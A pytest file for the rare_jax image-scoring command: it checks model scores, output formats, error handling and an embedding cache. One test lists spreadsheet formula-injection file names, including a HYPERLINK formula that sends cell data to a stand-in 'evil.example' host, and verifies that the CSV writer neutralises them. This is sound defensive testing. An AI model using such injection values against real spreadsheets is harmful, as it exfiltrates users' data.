"""`python -m rare_jax.predict`: a run's model scores new images exactly as it scored its pool.

A folder run and a small dataset run (its task cut from slices of the embedded Fashion-MNIST),
each with a linear model written as a round's checkpoint (no loop needed: predict reads only the
newest checkpoint's model), are scored; the scores must equal the model's probabilities on the
features the run itself computed for its pool and validation images.
"""

import csv
import dataclasses
import glob
import json
import os
import shutil
import subprocess
import sys
import time

import jax
import numpy as np
import pytest

from rare_jax import predict, workdirs
from rare_jax.active import labelers, linear, loop, runner
from rare_jax.data import folder, sources, tasks
from rare_jax.deep import embed as embed_lib
from rare_jax.deep import stand_in, trunk_features
from rare_jax.infra.checkpoint import CheckpointStore
from rare_jax.webapp import exports, folder_deep, folder_run

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def _env():
  env = dict(os.environ, PYTHONUNBUFFERED="1", JAX_PLATFORMS="cpu")
  env.pop("XLA_FLAGS", None)
  return env


def _save_model(
  workdir, features, seed_ids, weights, bias, *, seed=0, step=1, meta=None, run_dir=None
):
  """Writes checkpoint `step` holding this linear model (as a round would) in `run_dir`: by
  default a labeling run's (`folder_run.RUN_DIR`)."""
  state = loop.init(jax.numpy.asarray(features), np.asarray(seed_ids), seed=seed)
  state = state.replace(
    round=jax.numpy.ones((), jax.numpy.int32),
    has_model=jax.numpy.ones((), bool),
    linear=linear.LinearModel(
      weights=jax.numpy.asarray(weights, jax.numpy.float32),
      bias=jax.numpy.asarray(bias, jax.numpy.float32),
    ),
  )
  run_dir = run_dir or folder_run.RUN_DIR
  with CheckpointStore(os.path.join(workdir, run_dir, "checkpoints")) as store:
    store.save(step, state, {"round": 1, **(meta or {})})
  return state


def _run_predict(*args, timeout=300):
  """`python -m rare_jax.predict ARGS` in a child process; its CompletedProcess."""
  return subprocess.run(
    [sys.executable, "-m", "rare_jax.predict", *args],
    cwd=REPO,
    env=_env(),
    capture_output=True,
    text=True,
    timeout=timeout,
  )


def _read_csv(path):
  with open(path, newline="") as f:
    rows = list(csv.reader(f))
  return rows[0], rows[1:]


@pytest.fixture(scope="module")
def folder_workdir(tmp_path_factory):
  """A folder run whose model points from the other images' mean to the Sandals' mean."""
  out = tmp_path_factory.mktemp("example")
  images, seed_files = folder.write_example_folder(out, per_class=10, rare_count=12, num_seeds=3)
  workdir = str(out / "run")
  config = folder_run.make_config(budget=10, batch_size=5, feature_dim=12, image_size=16)
  run = folder_run.prepare_folder_run(
    workdir,
    images=images,
    seeds=",".join(seed_files),
    config=config,
    eval_subfolder="Sandal",
    log=lambda _: None,
  )
  features = np.asarray(run.features)
  positive = run.val_ground_truth[0]
  direction = features[positive].mean(0) - features[~positive].mean(0)
  weights = direction[None] / np.linalg.norm(direction) * 0.5
  bias = -(features @ weights[0]).mean(keepdims=True)
  _save_model(workdir, features, run.seed_ids, weights, bias)
  probabilities = 1 / (1 + np.exp(-(features.astype(np.float64) @ weights[0] + bias[0])))
  return images, workdir, run, probabilities


def test_folder_csv_equals_the_runs_scores(folder_workdir, tmp_path):
  images, workdir, run, probabilities = folder_workdir
  out = tmp_path / "scores.csv"
  result = _run_predict(
    f"--workdir={workdir}",
    f"--images={images}",
    f"--out={out}",
  )
  assert result.returncode == 0, result.stderr
  assert "scored 102/102 images" in result.stderr and "round 1" in result.stderr
  header, rows = _read_csv(out)
  assert header == ["id", "path", "score"]
  assert len(rows) == run.manifest["num_folder_images"] == 102
  scores = [float(r[2]) for r in rows]
  assert scores == sorted(scores, reverse=True)
  for id_, path, score in rows:
    assert path == run.display_path(int(id_))
    assert abs(float(score) - probabilities[int(id_)]) < 2e-6, (id_, score)
  assert sum(r[1].startswith("Sandal/") for r in rows[:12]) >= 6  # the ranking finds them


def test_top_k_threshold_and_dataset_images(folder_workdir):
  images, workdir, run, probabilities = folder_workdir
  scorer = predict.load_scorer(workdir, log=lambda _: None)
  assert scorer.category == "the category" and scorer.round == 1  # seeds given as a file list
  rows = predict.score_folder(scorer, images, log=lambda _: None).rows()
  top = predict.select_rows(rows, top_k=3, threshold=None)
  assert len(top) == 3 and top[0][2] >= top[1][2] >= top[2][2]
  np.testing.assert_allclose([r[2] for r in top], np.sort(probabilities[:102])[::-1][:3], atol=2e-6)
  kept = predict.select_rows(rows, top_k=None, threshold=0.5)
  assert all(r[2] >= 0.5 for r in kept) and len(kept) == int((probabilities[:102] >= 0.5).sum())
  with pytest.raises(ValueError, match="not both"):
    predict.select_rows(rows, top_k=2, threshold=0.5)
  with pytest.raises(ValueError, match="in \\[0, 1\\]"):
    predict.select_rows(rows, top_k=None, threshold=2.0)
  # The same image from the TFDS dataset gets the score of its PNG in the folder.
  train = sources.open_source("rare_fashion_mnist", "train")
  id_, path, score = rows[5]
  image = train[int(path.split("/")[1].split(".")[0])]["image"]
  assert (
    abs(predict.probabilities(scorer.logits(scorer.to_model_input(image)[None]))[0, 0] - score)
    < 1e-6
  )


def test_fiftyone_and_label_studio_outputs(folder_workdir, tmp_path):
  """--format=fiftyone / label-studio write rare_jax.infra.interchange's folders (checked
  against the tools' documentation in tests/test_interchange.py) with the CSV's scores; with
  --pool also the answers given (the seeds). What they cannot do is refused before any work."""
  images, workdir, run, probabilities = folder_workdir

  def predict_to(*args):
    result = _run_predict(f"--workdir={workdir}", *args)
    assert result.returncode == 0, result.stderr
    return result.stderr

  log = predict_to(
    f"--images={images}", "--format=fiftyone", "--threshold=0.6", f"--out={tmp_path / 'fo'}"
  )
  assert "fo.Dataset.from_dir(" in log and "wrote 102 images x 1 categories" in log
  labels = json.loads((tmp_path / "fo" / "labels.json").read_text())
  assert labels["classes"] == ["the category"]
  expected = {os.path.join(images, run.display_path(i)): probabilities[i] for i in range(102)}
  assert set(labels["labels"]) == set(expected)
  for path, targets in labels["labels"].items():
    wanted = [expected[path]] if expected[path] >= 0.6 else []
    assert [t["confidence"] for t in targets] == pytest.approx(wanted, abs=2e-6)
  log = predict_to(f"--images={images}", "--format=label-studio", f"--out={tmp_path / 'ls'}")
  assert f"LABEL_STUDIO_LOCAL_FILES_DOCUMENT_ROOT={images}" in log  # the folder, no parent
  tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text())
  assert {t["data"]["path"]: t["data"]["score_1"] for t in tasks} == pytest.approx(
    expected, abs=2e-6
  )
  # --pool: the run's logits and the answers given (1 yes, 0 no, -1 none) go in too.
  pool = exports.PoolScores(
    workdir=workdir,
    manifest={"root": "/data/images"},
    config=None,
    category_names=["Cat", "Dog"],
    paths=["a.png", "b/c.png", "/seeds/s.png"],
    logits=np.array([[2.0, -1.0, 40.0], [0.0, 3.0, -2.0]]),
    labels=np.array([[-1, 0, 1], [1, -1, -1]], np.int8),
    seeds=np.array([[False, False, True], [False, False, False]]),
    round=2,
    feature_version=1,
  )
  scored = predict.score_pool(pool, ["Dog", "Cat"])
  # Ranked by logit: float32 probabilities of logits 30 and 40 are both 1.0.
  tied = dataclasses.replace(pool, logits=np.array([[30.0, 40.0, 20.0], [0.0, 0.0, 0.0]]))
  ranked = predict.select_rows(predict.score_pool(tied, ["Cat"]).rows(), top_k=2, threshold=None)
  assert [row[0] for row in ranked] == [1, 0] and ranked[0][2] == ranked[1][2] == 1.0
  table = predict.interchange_table(scored, ["Dog", "Cat"], pool, "/data/images", None)
  assert table.paths == ("/data/images/a.png", "/data/images/b/c.png", "/seeds/s.png")
  assert table.human == (("yes", None), (None, "no"), (None, "yes"))
  assert table.logits == ((0.0, 2.0), (3.0, -1.0), (-2.0, 40.0))
  assert table.thresholds == (0.5, 0.5)
  with pytest.raises(ValueError, match="--top_k=3 cuts CSV and JSON rows"):
    predict.check_folder_output(str(tmp_path / "x"), "fiftyone", top_k=3, dataset=None)
  with pytest.raises(ValueError, match="has none: use csv or json"):
    predict.check_folder_output(str(tmp_path / "x"), "label-studio", top_k=None, dataset="d")
  blocked = _run_predict(
    f"--workdir={workdir}",
    f"--images={images}",
    "--format=fiftyone",
    f"--out={tmp_path / 'fo' / 'labels.json' / 'sub'}",  # under a file
  )
  assert blocked.returncode == 2 and "the folder cannot be created" in blocked.stderr
  assert "Traceback" not in blocked.stderr and "scored" not in blocked.stderr  # before any work
  with pytest.raises(ValueError, match="--out is empty"):
    predict.check_folder_output("", "fiftyone", top_k=None, dataset=None)
  (tmp_path / "file").write_text("keep")
  with pytest.raises(ValueError, match="is a file; expected a folder"):
    predict.check_folder_output(str(tmp_path / "file"), "fiftyone", top_k=None, dataset=None)
  assert (tmp_path / "file").read_text() == "keep"


def test_errors_are_clear(folder_workdir, tmp_path):
  _, workdir, _, _ = folder_workdir
  with pytest.raises(ValueError, match="holds no run"):
    predict.load_scorer(str(tmp_path), log=lambda _: None)
  with pytest.raises(ValueError, match="category='dog'"):
    predict.load_scorer(workdir, category="dog", log=lambda _: None)
  with pytest.raises(ValueError, match="strategy='tropel'"):
    predict.load_scorer(workdir, strategy="tropel", log=lambda _: None)
  result = _run_predict(
    f"--workdir={tmp_path}",
    f"--images={tmp_path}",
    f"--out={tmp_path / 'x.csv'}",
  )
  assert result.returncode == 2 and "error:" in result.stderr and "holds no run" in result.stderr
  assert not (tmp_path / "x.csv").exists()


def test_dataset_run_refits_the_same_projection(tmp_path):
  """A `rare_jax.run`-style workdir (pixel_pca): predict refits the PCA on the related-domain
  split and reproduces the run's validation scores."""
  from experiments.configs import tiny

  config = tiny.get_config()
  config.categories = (5,)
  config.strategies = ("ours_linear",)
  config.feature_dim = 8
  config.num_feature_updates, config.rounds_per_update = 1, 1
  config.validation = "subsample"  # as the task built below
  workdir = str(tmp_path)
  task = tasks.task_from_dataset(
    "rare_fashion_mnist",
    (5,),
    0,
    train_split="train[:1200]",
    eval_split="test[:300]",
    pool_fraction=0.01,
    num_seed_positives=3,
    pretrain_fraction=0.25,
  )
  task.save(workdir)
  runner.write_config(workdir, workdirs.config_to_dict(config))
  train = sources.open_source("rare_fashion_mnist", "train[:1200]")
  evaluation = sources.open_source("rare_fashion_mnist", "test[:300]")
  pool, val = stand_in.pixel_pca_features(
    sources.load_arrays(train, task.pretrain_ids)[0],
    sources.load_arrays(train, task.pool_ids)[0],
    sources.load_arrays(evaluation, task.val_ids)[0],
    dim=8,
  )
  os.makedirs(os.path.join(workdir, "features"))
  np.save(os.path.join(workdir, "features", "pool.npy"), pool)
  rng = np.random.default_rng(0)
  state = _save_model(
    workdir, pool, task.seed_positives, rng.normal(size=(1, 8)), [0.3], run_dir="ours_linear"
  )
  # The task records split "train[:1200]": predict opens it like the run did.
  assert (
    json.loads(open(os.path.join(workdir, "task.json")).read())["train_split"] == "train[:1200]"
  )
  scorer = predict.load_scorer(workdir, log=lambda _: None)
  rows = sorted(  # by id (rows() ranks them by logit)
    predict.score_dataset(
      scorer, "rare_fashion_mnist", "test[:300]", data_dir=None, log=lambda _: None
    ).rows()
  )
  expected = np.asarray(linear.predict_proba(jax.numpy.asarray(val), state.linear))[:, 0]
  got = np.array([rows[i][2] for i in task.val_ids])
  np.testing.assert_allclose(got, expected, atol=1e-6)
  assert rows[int(task.val_ids[0])][1] == evaluation.class_names[task.val_labels[0]]


def test_csv_of_odd_file_names_is_utf8_and_safe_in_a_spreadsheet(tmp_path):
  out = str(tmp_path / "scores.csv")
  undecodable = os.fsdecode(b"photos/\xff\xfeimg.png")  # not UTF-8: surrogate escapes
  names = [
    undecodable,
    '=HYPERLINK("http://evil.example/?x="&A1,"click").png',
    "+1.png",
    "-2.png",
    "@SUM(A1).png",
    "\tcell.png",
    "\rcell.png",
    "caf\u00e9/ok.png",
    "a=b.png",
  ]
  predict.write_csv(out, ("id", "path", "score"), [(i, n, 0.5) for i, n in enumerate(names)])
  data = open(out, "rb").read()
  data.decode("utf-8")  # valid UTF-8 throughout
  header, rows = _read_csv(out)
  assert header == ["id", "path", "score"]
  assert [r[1] for r in rows] == [
    "photos/\\xff\\xfeimg.png",
    "'" + names[1],
    "'+1.png",
    "'-2.png",
    "'@SUM(A1).png",
    "'\tcell.png",
    "'\rcell.png",
    "caf\u00e9/ok.png",
    "a=b.png",
  ]
  assert [r[2] for r in rows] == ["0.500000"] * len(names)  # numbers stay numbers
  assert glob.glob(str(tmp_path / "*.tmp")) == []


def test_a_failed_csv_write_leaves_no_file(tmp_path):
  out = str(tmp_path / "scores.csv")
  rows = [(0, "a.png", 0.5), (1, "b.png", None)]  # the second row fails mid-file
  with pytest.raises(TypeError):
    predict.write_csv(out, ("id", "path", "score"), rows)
  assert os.listdir(tmp_path) == []
  with pytest.raises(ValueError, match="is a directory"):
    predict.write_csv(str(tmp_path), ("id", "path", "score"), [(0, "a.png", 0.5)])
  assert os.listdir(tmp_path) == []


def test_a_damaged_config_or_checkpoint_is_named(folder_workdir, tmp_path):
  _, workdir, _, _ = folder_workdir
  config_broken = str(tmp_path / "config_broken")
  shutil.copytree(workdir, config_broken)
  with open(os.path.join(config_broken, "config.json"), "w") as f:
    f.write('{"seed": 0,')
  with pytest.raises(ValueError, match="config.json is not valid JSON"):
    predict.load_scorer(config_broken, log=lambda _: None)
  checkpoint_broken = str(tmp_path / "checkpoint_broken")
  shutil.copytree(workdir, checkpoint_broken)
  step = os.path.join(checkpoint_broken, folder_run.RUN_DIR, "checkpoints", "1")
  for path in glob.glob(os.path.join(step, "**"), recursive=True):
    if os.path.isfile(path):
      with open(path, "wb") as f:
        f.write(b"garbage")
  with pytest.raises(ValueError, match="checkpoint step 1 in .*checkpoint_broken.* cannot be"):
    predict.load_scorer(checkpoint_broken, log=lambda _: None)


def test_out_a_directory_is_a_clear_error(folder_workdir, tmp_path):
  images, workdir, _, _ = folder_workdir
  result = _run_predict(
    f"--workdir={workdir}",
    f"--images={images}",
    f"--out={tmp_path}",
  )
  assert result.returncode == 2, result.stderr
  assert "Traceback" not in result.stderr and "is a directory" in result.stderr
  assert "scored" not in result.stderr  # refused before the work
  assert os.listdir(tmp_path) == []


@pytest.fixture(scope="module")
def deep_workdir(tmp_path_factory):
  """A `python -m rare_jax.run` workdir of strategy `ours` after one deep update."""
  workdir = tmp_path_factory.mktemp("deep") / "run"
  config = os.path.join(REPO, "experiments", "configs", "tiny_deep.py")
  result = subprocess.run(
    [sys.executable, "-m", "rare_jax.run", f"--config={config}", f"--workdir={workdir}"],
    cwd=REPO,
    env=_env(),
    capture_output=True,
    text=True,
    timeout=900,
  )
  assert result.returncode == 0, result.stdout + result.stderr
  assert "deep head mean F1" in result.stdout
  return str(workdir)


def test_deep_run_scores_a_folder_in_both_formats(deep_workdir, folder_workdir, tmp_path):
  images = folder_workdir[0]
  for head, out in (("linear", tmp_path / "scores.csv"), ("deep", tmp_path / "scores.json")):
    result = _run_predict(
      f"--workdir={deep_workdir}",
      f"--images={images}",
      f"--out={out}",
      f"--head={head}",
      timeout=600,
    )
    assert result.returncode == 0, result.stderr
    assert f"{head} head on deep model v1" in result.stderr and "ETA" in result.stderr
  header, rows = _read_csv(tmp_path / "scores.csv")
  assert header == ["id", "path", "score"] and len(rows) == 102
  document = json.loads((tmp_path / "scores.json").read_text(encoding="utf-8"))
  assert document["categories"] == [{"id": 1, "name": "Sandal"}]
  assert document["info"]["head"] == "deep" and document["info"]["round"] == 2
  assert len(document["images"]) == len(document["annotations"]) == 102
  names = {image["id"]: image["file_name"] for image in document["images"]}
  assert {r[1] for r in rows} == set(names.values())
  scores = [a["score"] for a in document["annotations"]]
  assert scores == sorted(scores, reverse=True)
  for annotation in document["annotations"]:
    assert annotation["label"] == ("yes" if annotation["score"] >= 0.5 else "no")
    assert names[annotation["image_id"]].count("/") == 1


def test_deep_run_reproduces_the_runs_own_scores(deep_workdir, folder_workdir):
  """The linear head on the pool equals the loop's final scores (fitted on the v1 features);
  the deep head on the validation images equals the run's stored main_probs."""
  from rare_jax.deep import embed

  context = workdirs.load(deep_workdir)
  task = context.task
  like = runner.abstract_state(context.features, task.seed_positives, int(context.config.seed))
  with CheckpointStore(os.path.join(deep_workdir, "ours", "checkpoints")) as store:
    state, _ = store.restore(store.latest_step(), like)
  scorer = predict.load_scorer(deep_workdir, log=lambda _: None)
  assert scorer.head == "linear" and scorer.round == 2
  rows = sorted(  # by id (rows() ranks them by logit)
    predict.score_dataset(
      scorer, "rare_fashion_mnist", "train[:3000]", data_dir=None, log=lambda _: None
    ).rows()
  )
  got = np.array([rows[i][2] for i in task.pool_ids])
  expected = 1 / (1 + np.exp(-np.asarray(state.scores[0], np.float64)))
  np.testing.assert_allclose(got, expected, atol=2e-4)
  deep = predict.load_scorer(deep_workdir, head="deep", log=lambda _: None)
  rows = sorted(
    predict.score_dataset(
      deep, "rare_fashion_mnist", "test[:600]", data_dir=None, log=lambda _: None
    ).rows()
  )
  val = embed.FeatureStore.open(os.path.join(deep_workdir, "ours", "features", "v1", "val"))
  got = np.array([rows[i][2] for i in task.val_ids])
  np.testing.assert_allclose(got, np.asarray(val["main_probs"])[:, 0], atol=2e-5)
  with pytest.raises(ValueError, match="head='deep' needs a run with deep updates"):
    predict.load_scorer(folder_workdir[1], head="deep", log=lambda _: None)
  with pytest.raises(ValueError, match="head='last'"):
    predict.load_scorer(deep_workdir, head="last", log=lambda _: None)


def test_pretrained_folder_run_scores_like_its_pool(folder_workdir, tmp_path):
  """A folder run on EfficientNet-Lite0 embeddings: predict embeds the folder again with the
  same trunk and the pool's statistics and reproduces the model's probabilities."""
  images, _, first, _ = folder_workdir
  config = folder_run.make_config(
    budget=10, batch_size=5, features="pretrained", image_size=32, embed_batch_size=16
  )
  workdir = str(tmp_path / "run")
  run = folder_run.prepare_folder_run(
    workdir,
    images=images,
    seeds=",".join(first.manifest["seed_files"]),
    config=config,
    eval_subfolder="Sandal",
    log=lambda _: None,
  )
  features = np.asarray(run.features)
  rng = np.random.default_rng(1)
  weights = rng.normal(size=(1, features.shape[1])) / np.sqrt(features.shape[1])
  _save_model(workdir, features, run.seed_ids, weights, [0.1])
  scorer = predict.load_scorer(workdir, log=lambda _: None)
  assert "efficientnet_lite0" in scorer.kind and scorer.head == "linear"
  rows = predict.score_folder(scorer, images, log=lambda _: None).rows()
  expected = 1 / (1 + np.exp(-(features.astype(np.float64) @ weights[0] + 0.1)))
  got = np.array([score for _, _, score in sorted(rows)])
  np.testing.assert_allclose(got, expected[:102], atol=1e-4)
  out = str(tmp_path / "top.json")
  top = predict.select_rows(rows, top_k=5, threshold=None)
  predict.write_json(
    out, ("id", "path", "score"), top, scorer=scorer, workdir=workdir, source=images
  )
  document = json.loads(open(out, encoding="utf-8").read())
  assert [a["image_id"] for a in document["annotations"]] == [r[0] for r in top]
  assert [i["file_name"] for i in document["images"]] == [r[1] for r in top]
  assert (
    predict.output_format("x.JSON", None) == "json" and predict.output_format("x", None) == "csv"
  )
  with pytest.raises(ValueError, match="format='xml'"):
    predict.output_format("x.csv", "xml")


def test_every_category_in_one_pass(folder_workdir, tmp_path):
  """A run of two categories: one pass over the images gives both columns; the CSV has one
  row per image and category, the JSON two COCO categories; --category keeps the old layout."""
  images, _, first, _ = folder_workdir
  bags = sorted(glob.glob(os.path.join(images, "Bag", "*.png")))[:3]
  config = folder_run.make_config(budget=10, batch_size=5, feature_dim=12, image_size=16)
  workdir = str(tmp_path / "run")
  run = folder_run.prepare_folder_run(
    workdir,
    images=images,
    categories=[("Sandal", ",".join(first.manifest["seed_files"])), ("Bag", ",".join(bags))],
    config=config,
    log=lambda _: None,
  )
  features = np.asarray(run.features)
  weights = np.random.default_rng(2).normal(size=(2, features.shape[1])) * 0.3
  bias = np.array([0.2, -0.4])
  _save_model(workdir, features, run.seed_ids, weights, bias)
  expected = 1 / (1 + np.exp(-(features.astype(np.float64) @ weights.T + bias)))  # [P, 2]
  scorer = predict.load_scorer(workdir, log=lambda _: None)
  assert scorer.categories == ["Sandal", "Bag"]
  scored = predict.score_folder(scorer, images, log=lambda _: None)
  assert scorer.images_embedded == 102  # one pass, not one per category
  assert scored.scores.shape == (102, 2)
  np.testing.assert_allclose(scored.scores, expected[:102], atol=2e-6)

  def cli(*args):
    return _run_predict(f"--workdir={workdir}", *args)

  result = cli(f"--images={images}", f"--out={tmp_path / 'both.csv'}", "--top_k=4")
  assert result.returncode == 0, result.stderr
  header, rows = _read_csv(tmp_path / "both.csv")
  assert header == ["id", "path", "category", "score"]
  assert [r[2] for r in rows] == ["Sandal"] * 4 + ["Bag"] * 4
  for c, name in enumerate(("Sandal", "Bag")):
    best = np.argsort(-expected[:102, c], kind="stable")[:4]
    got = [r for r in rows if r[2] == name]
    assert [int(r[0]) for r in got] == best.tolist()
    np.testing.assert_allclose([float(r[3]) for r in got], expected[best, c], atol=2e-6)
  result = cli(f"--images={images}", f"--out={tmp_path / 'both.json'}")
  assert result.returncode == 0, result.stderr
  document = json.loads((tmp_path / "both.json").read_text(encoding="utf-8"))
  assert document["categories"] == [{"id": 1, "name": "Sandal"}, {"id": 2, "name": "Bag"}]
  assert len(document["images"]) == 102 and len(document["annotations"]) == 204
  for annotation in document["annotations"]:
    c = annotation["category_id"] - 1
    assert abs(annotation["score"] - expected[annotation["image_id"], c]) < 2e-6
  bag = predict.load_scorer(workdir, category="Bag", log=lambda _: None)
  assert bag.categories == ["Bag"]  # one category: the CSV keeps its `id,path,score` layout
  np.testing.assert_allclose(
    predict.score_folder(bag, images, log=lambda _: None).scores[:, 0], expected[:102, 1], atol=2e-6
  )


@pytest.fixture(scope="module")
def deep_labeling_run(tmp_path_factory):
  """A labeling run on EfficientNet-Lite0 embeddings (32 px) with a real deep update after
  round 1, as the page's "Update the deep model" asks for, then round 2 on its features."""
  out = tmp_path_factory.mktemp("deep_labeling")
  images, seed_files = folder.write_example_folder(out, per_class=4, rare_count=6, num_seeds=3)
  config = folder_run.make_config(
    budget=10,
    batch_size=5,
    features="pretrained",
    image_size=32,
    embed_batch_size=16,
    deep_epochs=1,
  )
  run = folder_run.prepare_folder_run(
    str(out / "run"),
    images=images,
    seeds=",".join(seed_files),
    config=config,
    eval_subfolder="Sandal",
    log=lambda _: None,
  )
  runner.run_strategy(
    run_dir=run.run_dir,
    config=config,
    strategy=folder_run.STRATEGY,
    features=run.features,
    val_features=run.val_features,
    seed_ids=run.seed_ids,
    val_ground_truth=run.val_ground_truth,
    labeler=labelers.SimulatedLabeler(run.val_ground_truth),
    log=lambda _: None,
    updater=folder_deep.make_updater(run, log=lambda _: None),
    update_after=lambda round_index: round_index == 1,
  )
  like = runner.abstract_state(run.features, run.seed_ids, int(config.seed))
  with CheckpointStore(os.path.join(run.run_dir, "checkpoints")) as store:
    state, meta = store.restore(store.latest_step(), like)
  assert meta["feature_version"] == 1 and int(state.round) == 2
  expected = 1 / (1 + np.exp(-np.asarray(state.scores[0], np.float64)))
  return images, run, expected


class _CountEmbeddings:
  """Counts the images a TrunkEmbedder passes through the network."""

  def __init__(self, monkeypatch):
    self.count = 0
    original = trunk_features.TrunkEmbedder.embed

    def embed(embedder, images):
      self.count += len(images)
      return original(embedder, images)

    monkeypatch.setattr(trunk_features.TrunkEmbedder, "embed", embed)


@pytest.mark.slow
def test_the_pool_after_a_deep_update_is_scored_without_embedding(deep_labeling_run, tmp_path):
  """`--pool` writes the newest checkpoint's scores (on deep update v1's features); the folder
  the run labeled, scored with --images, gets the same scores from the run's own v1 pool
  embeddings: no image passes through the trunk."""
  images, run, expected = deep_labeling_run
  out = tmp_path / "pool.csv"
  result = _run_predict(
    f"--workdir={run.workdir}",
    "--pool",
    f"--out={out}",
  )
  assert result.returncode == 0, result.stderr
  assert "after deep update v1" in result.stderr and "no embedding" in result.stderr
  header, rows = _read_csv(out)
  assert header == ["id", "path", "score"] and len(rows) == run.pool_size
  for id_, path, score in rows:
    assert path == run.display_path(int(id_))
    assert abs(float(score) - expected[int(id_)]) < 2e-6
  assert exports.pool_scores(run.workdir).feature_version == 1


@pytest.mark.slow
def test_after_a_deep_update_new_images_use_the_updated_trunk_and_the_cache(
  deep_labeling_run, tmp_path, monkeypatch
):
  """(1) The trunk of deep update v1 embeds new files exactly as the run embedded its pool after
  that update (float32 rounding). (2) Embeddings are cached per (path, size, mtime, trunk): a
  second call embeds nothing, a touched file is embedded again, gone files leave the cache, and
  the run's labeled folder needs no embedding at all."""
  images, run, expected = deep_labeling_run
  counter = _CountEmbeddings(monkeypatch)
  scorer = predict.load_scorer(run.workdir, log=lambda _: None)
  assert "after deep update v1" in scorer.kind and scorer.round == 2
  v0 = embed_lib.FeatureStore.open(folder_run.pool_store_dir(run.workdir)).features
  v1 = embed_lib.FeatureStore.open(os.path.join(run.run_dir, "features", "v1", "pool")).features
  assert np.abs(np.asarray(v1) - np.asarray(v0)).max() > 1e-2  # the update changed the trunk
  # New files: copies of pool images under new names (not in any cache).
  pool_ids = [0, 5, 20, 21, run.manifest["num_folder_images"]]  # the last: a seed outside
  new = tmp_path / "new"
  new.mkdir()
  for k, i in enumerate(pool_ids):
    shutil.copyfile(run.file_path(i), new / f"copy_{k}.png")
  images_new = np.stack(
    [scorer.to_model_input(folder.decode_image(str(new / f"copy_{k}.png"))) for k in range(5)]
  )
  np.testing.assert_allclose(
    scorer.features(images_new), np.asarray(v1)[pool_ids], rtol=1e-4, atol=1e-4
  )
  counter.count = 0
  cache_dir = os.path.join(run.workdir, predict.CACHE_DIR)
  os.makedirs(cache_dir, exist_ok=True)
  stale = os.path.join(cache_dir, "embeddings_00000000000000000000000000000000.npz")
  open(stale, "wb").close()
  scored = predict.score_folder(
    scorer, str(new), log=lambda _: None, cache=predict.EmbeddingCache(run.workdir, scorer)
  )
  assert counter.count == 5
  np.testing.assert_allclose(scored.scores[:, 0], expected[pool_ids], atol=1e-4)
  assert not os.path.exists(stale)  # one cache file: the current trunk's
  counter.count = 0
  again = predict.score_folder(
    scorer, str(new), log=lambda _: None, cache=predict.EmbeddingCache(run.workdir, scorer)
  )
  assert counter.count == 0
  np.testing.assert_array_equal(again.scores, scored.scores)
  stat = os.stat(new / "copy_1.png")
  os.utime(new / "copy_1.png", ns=(stat.st_atime_ns, stat.st_mtime_ns + 2_000_000_000))
  os.remove(new / "copy_4.png")
  predict.score_folder(
    scorer, str(new), log=lambda _: None, cache=predict.EmbeddingCache(run.workdir, scorer)
  )
  assert counter.count == 1  # the touched file only
  cache = predict.EmbeddingCache(run.workdir, scorer)
  assert sorted(cache._entries) == sorted(str(new / f"copy_{k}.png") for k in range(4))
  assert os.listdir(cache_dir) == [os.path.basename(cache.path)]
  # The folder the run labeled: its own v1 pool embeddings, nothing embedded.
  counter.count = 0
  lines = []
  labeled = predict.score_folder(scorer, images, log=lines.append, cache=cache)
  assert counter.count == 0, lines
  assert labeled.names == run.manifest["paths"][: len(labeled.names)]
  np.testing.assert_allclose(labeled.scores[:, 0], expected[: len(labeled.names)], atol=1e-4)
  reread = predict.EmbeddingCache(run.workdir, scorer)  # the pool's rows are not copied in
  assert sorted(reread._entries) == sorted(cache._entries) and len(reread._entries) == 4


def test_saving_the_cache_keeps_another_process_save_under_way(tmp_path):
  """Saving removes other trunks' cache files, never a temporary file: it may be another
  predict process's save under way (before: any name starting with embeddings_ went)."""
  import types

  image = tmp_path / "a.png"
  image.write_bytes(b"x")
  scorer = types.SimpleNamespace(cache_key="a" * 64, pool_store=([], np.zeros((2, 5)), 0))
  cache = predict.EmbeddingCache(str(tmp_path), scorer, log=lambda _: None)
  os.makedirs(cache.directory)
  other_trunk = os.path.join(cache.directory, "embeddings_" + "b" * 32 + ".npz")
  under_way = cache.path + ".999.tmp.npz"
  for path in (other_trunk, under_way):
    open(path, "wb").close()
  cache.put(str(image), os.stat(image), np.ones(5, np.float32))
  cache.save()
  assert os.path.exists(cache.path) and os.path.exists(under_way)
  assert not os.path.exists(other_trunk)


def test_a_killed_saves_temporary_file_is_removed_by_the_next_save(tmp_path):
  """A predict killed while saving leaves embeddings_<key>.npz.<pid>.tmp.npz: the next save
  deletes it once its process is gone and it is old; a recent one or a live writer's stays."""
  import types

  image = tmp_path / "a.png"
  image.write_bytes(b"x")
  scorer = types.SimpleNamespace(cache_key="a" * 64, pool_store=([], np.zeros((2, 5)), 0))
  cache = predict.EmbeddingCache(str(tmp_path), scorer, log=lambda _: None)
  os.makedirs(cache.directory)
  dead = subprocess.run(
    [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
  )
  dead_pid = int(dead.stdout)  # a process that has exited
  old = time.time() - predict.STALE_TEMPORARY_SECONDS - 60
  killed = cache.path + f".{dead_pid}.tmp.npz"
  recent = os.path.join(cache.directory, "embeddings_" + "b" * 32 + f".npz.{dead_pid}.tmp.npz")
  alive = cache.path + f".{os.getppid()}.tmp.npz"  # the parent process runs
  for path in (killed, recent, alive):
    open(path, "wb").close()
  os.utime(killed, (old, old))
  os.utime(alive, (old, old))
  cache.put(str(image), os.stat(image), np.ones(5, np.float32))
  cache.save()
  assert not os.path.exists(killed)
  assert os.path.exists(recent) and os.path.exists(alive)
  # A save that fails still removes a killed save's file first (it may be what filled a disk).
  os.remove(cache.path)
  os.makedirs(os.path.join(cache.path, "x"))  # the cache's name taken: the write fails
  open(killed, "wb").close()
  os.utime(killed, (old, old))
  said = []
  cache.log = said.append
  cache.save()
  assert not os.path.exists(killed) and "not saved" in said[0]


@pytest.mark.parametrize(
  "rows",
  [
    np.zeros((1, 3), np.float32),  # another width than the trunk's (5 here)
    np.zeros(1, np.float32),  # not a table of rows
    np.full((1, 5), np.nan, np.float32),
  ],
  ids=["width", "ndim", "nan"],
)
def test_a_damaged_embedding_cache_is_ignored(tmp_path, rows):
  """A cache file with the trunk's key but rows that cannot be this trunk's embeddings is
  ignored like any damaged cache file (before: its rows were served, and scoring failed on
  the shapes or gave NaN scores)."""
  import types

  image = tmp_path / "a.png"
  image.write_bytes(b"x")
  stat = os.stat(image)
  pool = np.zeros((2, 5), np.float32)
  scorer = types.SimpleNamespace(cache_key="k" * 64, pool_store=([], pool, 0))
